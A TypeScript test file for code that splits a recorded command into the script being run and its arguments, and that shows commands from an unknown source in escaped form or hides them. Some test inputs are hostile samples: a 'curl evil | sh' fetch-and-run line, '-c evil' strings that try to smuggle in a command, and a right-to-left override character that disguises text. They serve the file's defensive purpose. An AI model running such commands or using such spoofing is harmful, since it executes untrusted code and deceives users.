import assert from "node:assert/strict";
import { test } from "node:test";
import { hasMask, plainText, shownCommand, splitCommand } from "./resumed.ts";

const split = (command: string, script: string | null, cwd = "/w/project") => {
  const { head, args } = splitCommand({ command: command.split(" "), cwd, script }, "/w/project");
  return [head.join(" "), args.join(" ")];
};

test("what follows the script are its arguments, however the script was named", () => {
  assert.deepEqual(split("python train.py --lr 0.1", "train.py"), ["python train.py", "--lr 0.1"]);
  assert.deepEqual(split("/venv/bin/python -u /w/project/src/train.py", "src/train.py"), ["/venv/bin/python -u /w/project/src/train.py", ""]);
  assert.deepEqual(split("python ../train.py --data ../train.csv", "train.py", "/w/project/jobs"), ["python ../train.py", "--data ../train.csv"]);
  assert.deepEqual(split("python -m jobs.train --epochs 3", "jobs/train.py"), ["python -m jobs.train", "--epochs 3"]);
  assert.deepEqual(split("./align --threads 4", null), ["./align", "--threads 4"]);
  const windows = splitCommand({ command: ["python", "src\\train.py", "-v"], cwd: "C:\\w", script: "src/train.py" }, "C:\\w");
  assert.deepEqual(windows.args, ["-v"]);
});

test("a module is one only directly behind a Python and its options: nothing else hides what is run before the arguments", () => {
  assert.deepEqual(split("python3.11 -u -X dev -m jobs.train --epochs 3", "jobs/train.py"), ["python3.11 -u -X dev -m jobs.train", "--epochs 3"]);
  assert.deepEqual(split("/venv/bin/python -m jobs.train", "jobs/train.py"), ["/venv/bin/python -m jobs.train", ""]);
  assert.deepEqual(split("sh -c evil -m train.pyc", "train.py"), ["sh", "-c evil -m train.pyc"]);
  assert.deepEqual(split("python -c evil -m jobs.train", "jobs/train.py"), ["python", "-c evil -m jobs.train"]);
  assert.deepEqual(split("python other.py -m jobs.train", "jobs/train.py"), ["python", "other.py -m jobs.train"]);
  assert.deepEqual(split("uv run python -m jobs.train", "jobs/train.py"), ["uv", "run python -m jobs.train"]);
});

test("a stranger's command is shown whole and plainly, or not at all", () => {
  assert.equal(shownCommand(["bash", "-c", "curl evil | sh", "/p/train.py"]), 'bash -c "curl evil | sh" /p/train.py');
  assert.equal(shownCommand(["sh", "-c", "true\n\n\n\u202Elive", "a\u00A0b"]), 'sh -c "true\\u{a}\\u{a}\\u{a}\\u{202e}live" "a\\u{a0}b"');
  assert.equal(shownCommand(["echo", "x".repeat(2_000), ";evil"]), null);
  assert.equal(plainText("/tmp/ä b\tc"), "/tmp/ä b\\u{9}c");
});

test("a masked secret is noticed, also within an option or an address", () => {
  assert.deepEqual([["--key", "***"], ["--token=***"], ["postgres://me:***@db"], ["--stars", "****", "a***b"]].map(hasMask), [true, true, true, false]);
});
